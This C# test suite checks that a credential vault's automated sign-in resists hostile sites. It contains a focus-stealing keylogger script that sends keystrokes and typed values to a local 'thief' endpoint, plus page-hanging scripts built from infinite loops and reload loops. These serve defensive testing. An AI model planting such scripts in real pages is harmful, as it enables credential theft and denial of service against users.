using System.Diagnostics;
using CredentialVault.SignIn;
using CredentialVault.SignInTests.Worlds;
using CredentialVault.Testing.AgentsEye;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Xunit.Abstractions;

namespace CredentialVault.SignInTests.Attackers;

/// <summary>What a hostile site, or a hostile frame in a good one, can do to a sign-in.</summary>
public sealed class SiteTests(ITestOutputHelper output)
{
    [Fact]
    public async Task A_foreign_frame_that_steals_the_focus_gets_nothing()
    {
        const string Thief = """
            <input id=trap autofocus><script>
            const send = (what) => fetch("/got", { method: "POST", body: what });
            const trap = document.querySelector("#trap");
            trap.addEventListener("focus", () => send("focus"), { once: true });
            addEventListener("keydown", (event) => send("key " + event.key));
            trap.addEventListener("input", () => send("input " + trap.value));
            setInterval(() => { window.focus(); trap.focus(); }, 20);
            </script>
            """;
        await using var vault = await OwnersVault.CreateAsync();
        await using var thief = await SmallSite.StartAsync("thief", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(Thief));
            pages.MapPost("/got", () => "");
        });
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + $"<iframe src='{thief.Address}' width=300 height=100></iframe>"));
            pages.MapPost("/sign-in", (HttpContext context) =>
            {
                context.Response.Cookies.Append("session", "1");
                return SmallSite.Page(SmallSite.Inside);
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        Assert.Equal(Outcome.SignedIn, result.Outcome);
        Assert.Equal($"email={OwnersVault.Username}&password={vault.Password}", Assert.Single(site.Posted));
        Assert.Equal(["focus"], thief.Posted, StringComparer.Ordinal);
    }

    [Fact]
    public async Task A_form_at_a_foreign_origin_gets_nothing()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await SmallSite.StartAsync("evil", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form())));
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => Results.Redirect(evil.Address.ToString())));

        Assert.Equal(Outcome.OriginMismatch(Reason.ForeignOrigin), (await vault.SignInAsync(await vault.AddAsync(site.Address, "/"))).Outcome);
        Assert.Empty(evil.Posted);
    }

    [Fact]
    public async Task A_form_in_a_foreign_frame_gets_nothing_and_the_sign_in_ends_in_time()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var evil = await SmallSite.StartAsync("evil", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Form())));
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page($"<iframe src='{evil.Address}' width=400 height=400></iframe>")));

        Assert.Equal(Outcome.NeedsOwner(Reason.NoWayIn), (await vault.SignInAsync(await vault.AddAsync(site.Address, "/"))).Outcome);
        Assert.Empty(evil.Posted);
    }

    [Fact]
    public async Task What_a_site_reflects_of_the_password_is_withheld()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form()));
            pages.MapPost("/sign-in", async (HttpContext context) =>
            {
                var password = (await context.Request.ReadFormAsync())["password"].ToString();
                context.Response.Cookies.Append("session", "1");
                context.Response.Cookies.Append("last-form", Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("{\"p\":\"" + password + "\"}")));
                var script = "<script>localStorage.setItem('draft', " + System.Text.Json.JsonSerializer.Serialize(password) + ".split('').reverse().join(''))</script>";
                return SmallSite.Page(script + SmallSite.Inside);
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"));

        Assert.Equal(Outcome.SignedIn, result.Outcome);
        Assert.Equal(["cookie last-form", "localStorage draft"], result.Session!.Reflected);
        Assert.Equal("session", Assert.Single(result.Session.Session.Cookies).Name);
        Assert.DoesNotContain(SecretForms.Of(vault.Password), form => result.Session.Session.Storage.SelectMany(origin => origin.Local).Any(item => item.Value.Contains(form, StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("localStorage.setItem('half a character \\ud83d', 'x')")]
    [InlineData("sessionStorage.setItem('x', '\\udc00\\ud800')")]
    public async Task A_session_that_no_JSON_text_can_carry_is_refused_whole(string keep)
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form()));
            pages.MapPost("/sign-in", (HttpContext context) =>
            {
                context.Response.Cookies.Append("session", "1");
                return SmallSite.Page($"<script>localStorage.setItem('good', '1'); {keep}</script>" + SmallSite.Inside);
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"));

        Assert.Equal(Outcome.SessionNotPortable(Reason.StorageNotReadable), result.Outcome);
        Assert.Null(result.Session);
    }

    [Fact]
    public async Task What_is_stored_under_a_name_that_storage_itself_has_is_not_left_behind()
    {
        string[] names = ["key", "length", "getItem", "clear", "constructor", "__proto__", "toString", ""];
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form()));
            pages.MapPost("/sign-in", () =>
            {
                var script = string.Concat(names.Select(name => $"Storage.prototype.setItem.call(localStorage, '{name}', '1'); Storage.prototype.setItem.call(sessionStorage, '{name}', '2');"));
                return SmallSite.Page($"<script>{script}</script>" + SmallSite.Inside);
            });
        });

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"));

        var storage = Assert.Single(result.Session!.Session.Storage);
        Assert.Equal(names.Order(StringComparer.Ordinal), storage.Local.Select(item => item.Key).Order(StringComparer.Ordinal));
        Assert.Equal(names.Order(StringComparer.Ordinal), storage.Session.Select(item => item.Key).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task A_site_that_opens_windows_dialogs_and_downloads_is_signed_in_all_the_same()
    {
        const string Noise = """
            <script>
            open("/", "_blank");
            addEventListener("load", () => setTimeout(() => { alert("Hello"); confirm("Sure?"); }, 0));
            addEventListener("beforeunload", (event) => event.preventDefault());
            navigator.geolocation.getCurrentPosition(() => {});
            Notification.requestPermission();
            </script><a id=d href="/file" download></a><script>document.querySelector("#d").click()</script>
            """;
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(Noise + SmallSite.Form()));
            pages.MapGet("/file", () => Results.File(new byte[1000], "application/octet-stream", "file.bin"));
            pages.MapPost("/sign-in", (HttpContext context) =>
            {
                context.Response.Cookies.Append("session", "1");
                return SmallSite.Page(SmallSite.Inside);
            });
        });

        Assert.Equal(Outcome.SignedIn, (await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output))).Outcome);
    }

    [Fact]
    public async Task A_page_that_never_ends_to_load_is_signed_in_all_the_same()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + "<img src=/never><script src=/never-either async></script>"));
            pages.MapGet("/{name}", (CancellationToken cancel) => Task.Delay(Timeout.Infinite, cancel));
            pages.MapPost("/sign-in", (HttpContext context) =>
            {
                context.Response.Cookies.Append("session", "1");
                return SmallSite.Page(SmallSite.Inside + "<img src=/never>");
            });
        });

        Assert.Equal(Outcome.SignedIn, (await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output))).Outcome);
    }

    [Theory]
    [InlineData("<script>addEventListener('input', () => { for (;;); })</script>")]
    [InlineData("<script>addEventListener('submit', () => { const never = new XMLHttpRequest(); never.open('GET', '/never', false); never.send(); })</script>")]
    [InlineData("<script>addEventListener('load', () => setTimeout(() => { const never = new XMLHttpRequest(); never.open('GET', '/never', false); never.send(); }, 0))</script>")]
    [InlineData("<script>setInterval(() => location.reload(), 30)</script>")]
    public async Task A_page_that_keeps_itself_busy_does_not_hold_a_sign_in_up_for_ever(string busy)
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages =>
        {
            pages.MapGet("/", () => SmallSite.Page(SmallSite.Form() + busy));
            pages.MapGet("/never", (CancellationToken cancel) => Task.Delay(Timeout.Infinite, cancel));
        });
        var began = Stopwatch.GetTimestamp();

        var result = await vault.SignInAsync(await vault.AddAsync(site.Address, "/"), new Stopwatches(output));

        output.WriteLine(result.Outcome.Explanation);
        Assert.NotEqual(Outcome.SignedIn, result.Outcome);
        Assert.NotEqual(Outcome.PasswordRejected, result.Outcome);
        Assert.True(Stopwatch.GetElapsedTime(began) < IsolatedSignIn.Bound + TimeSpan.FromSeconds(10));
    }

    [Fact]
    public async Task A_site_that_takes_the_connection_and_says_nothing_is_given_up()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", (CancellationToken cancel) => Task.Delay(Timeout.Infinite, cancel)));

        Assert.Equal(Outcome.TimedOut(Reason.NoAnswer), (await vault.SignInAsync(await vault.AddAsync(site.Address, "/"))).Outcome);
    }

    [Fact]
    public async Task A_page_that_says_it_is_signed_in_before_anything_was_typed_is_not_believed()
    {
        await using var vault = await OwnersVault.CreateAsync();
        await using var site = await SmallSite.StartAsync("shop", pages => pages.MapGet("/", () => SmallSite.Page(SmallSite.Inside)));

        Assert.Equal(Outcome.NeedsOwner(Reason.NoWayIn), (await vault.SignInAsync(await vault.AddAsync(site.Address, "/"))).Outcome);
    }
}
